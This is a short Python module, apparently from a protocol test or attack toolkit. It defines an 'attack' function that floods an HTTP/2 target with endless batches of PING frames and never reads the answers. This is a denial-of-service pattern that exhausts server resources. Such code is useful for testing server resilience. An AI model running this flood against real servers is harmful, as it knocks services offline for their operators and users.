# SPDX-License-Identifier: Apache-2.0
"""PING without end; the answers are never read."""
import itertools

from lib.http2 import PING, frame


def attack(target):
    return target.flood(lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * 100))
